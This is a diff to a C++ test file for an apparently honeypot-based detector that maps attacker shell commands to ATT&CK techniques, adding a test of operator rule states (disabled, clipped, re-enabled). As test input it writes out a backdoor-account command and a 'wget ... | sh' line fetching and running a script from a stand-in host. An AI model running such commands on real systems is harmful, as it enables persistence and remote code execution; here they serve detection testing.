@@ -6,7 +6,10 @@
 
 #include <cstdio>
 #include <fstream>
+#include <map>
+#include <nlohmann/json.hpp>
 #include <set>
+#include <vector>
 
 #include "serve_support.h"
 
@@ -15,11 +18,23 @@ namespace {
 
 using namespace decnet::testing;
 
-std::string line(int second, const std::string& msgid, const std::string& sd) {
+std::string line(int second, const std::string& msgid, const std::string& sd,
+                 const std::string& sid = "t1", const std::string& ip = "198.51.100.61") {
   char ts[64];
   std::snprintf(ts, sizeof ts, "2026-05-02T06:10:%02d.000000+00:00", second);
-  return std::string("<134>1 ") + ts + " decky-07 ssh - " + msgid + " [relay@55555 sid=\"t1\" " +
-         "src_ip=\"198.51.100.61\" " + sd + "]";
+  return std::string("<134>1 ") + ts + " decky-07 ssh - " + msgid + " [relay@55555 sid=\"" + sid +
+         "\" src_ip=\"" + ip + "\" " + sd + "]";
+}
+
+// A shell session from `ip` that runs `commands`, connect to disconnect.
+std::string session(const std::string& sid, const std::string& ip,
+                    const std::vector<std::string>& commands) {
+  std::string stream = octet_frame(line(0, "connect", "", sid, ip));
+  int t = 1;
+  for (const auto& c : commands) {
+    stream += octet_frame(line(t++, "command", "command=\"" + c + "\"", sid, ip));
+  }
+  return stream + octet_frame(line(t, "disconnect", "", sid, ip));
 }
 
 TEST(ServeTtp, ASessionsCommandsBecomeTagsOfTheirTechniques) {
@@ -98,6 +113,55 @@ TEST(ServeTtp, ASessionsCommandsBecomeTagsOfTheirTechniques) {
     sub_kept = sub_kept || (t["techniqueID"] == "T1136.001" && t["score"] == 1);
   }
   EXPECT_TRUE(sub_kept) << layer.raw;
+}
+
+// Operators' decisions change what fires: a disabled rule tags nothing, a clipped one tags at
+// its ceiling, and deleting the state brings the rule back.
+TEST(ServeTtp, RuleStatesChangeWhatFires) {
+  ServeProcess serve;
+  ASSERT_TRUE(serve.wait_ready()) << serve.output();
+  const auto set = [&](const std::string& rule, const nlohmann::json& body) {
+    return serve.api("POST", "/api/v1/ttp/rules/" + rule + "/state", body.dump());
+  };
+  const auto disabled = set("R0024", {{"state", "disabled"}, {"reason", "noisy on this fleet"}});
+  ASSERT_EQ(disabled.status, 200) << disabled.raw;
+  EXPECT_EQ(disabled.body["state"], "disabled");
+  EXPECT_EQ(disabled.body["set_by"], "admin");
+  ASSERT_EQ(set("R0012", {{"state", "clipped"}, {"confidence_max", 0.5}}).status, 200);
+  // Refused with the field named; an unknown rule is not found.
+  const auto no_ceiling = set("R0012", {{"state", "clipped"}});
+  EXPECT_EQ(no_ceiling.status, 422);
+  EXPECT_NE(no_ceiling.raw.find("confidence_max"), std::string::npos) << no_ceiling.raw;
+  const auto bad_state = set("R0012", {{"state", "off"}});
+  EXPECT_EQ(bad_state.status, 422);
+  EXPECT_NE(bad_state.raw.find("state"), std::string::npos) << bad_state.raw;
+  EXPECT_EQ(set("R9999", {{"state", "disabled"}}).status, 404);
+  const auto rules = serve.api("GET", "/api/v1/ttp/rules");
+  ASSERT_EQ(rules.status, 200);
+  std::map<std::string, std::string> states;
+  for (const auto& r : rules.body) states[r["rule_id"]] = r["state"];
+  EXPECT_EQ(states["R0024"], "disabled");
+  EXPECT_EQ(states["R0012"], "clipped");
+  EXPECT_EQ(states["R0010"], "enabled");
+
+  TcpClient client(serve.tcp_port());
+  ASSERT_TRUE(client.send(
+      session("s-off", "198.51.100.62",
+              {"useradd -m -s /bin/bash backdoor", "wget http://x.example/x.sh -O- | sh"})));
+  const auto count = [&](const std::string& where) {
+    return sqlite_int(serve.db(), "SELECT COUNT(*) FROM ttp_tag WHERE " + where).value_or(-1);
+  };
+  // The download pipes into a shell: T1059.004 at its own 0.9, T1105 clipped to 0.5.
+  ASSERT_TRUE(wait_until([&] { return count("1") == 2; })) << count("1") << serve.output();
+  EXPECT_EQ(count("technique_id = 'T1105' AND confidence = 0.5"), 1);
+  EXPECT_EQ(count("technique_id = 'T1059' AND confidence = 0.9"), 1);
+  EXPECT_EQ(count("technique_id = 'T1136'"), 0);
+
+  const auto cleared = serve.api("DELETE", "/api/v1/ttp/rules/R0024/state");
+  ASSERT_EQ(cleared.status, 200) << cleared.raw;
+  EXPECT_EQ(cleared.body["state"], "enabled");
+  ASSERT_TRUE(client.send(session("s-on", "198.51.100.63", {"useradd -m -s /bin/bash backdoor"})));
+  EXPECT_TRUE(wait_until([&] { return count("technique_id = 'T1136'") == 1; })) << serve.output();
 }
 
 TEST(ServeTtp, ABrokenRuleStopsStartUpNamingItsFileAndLine) {
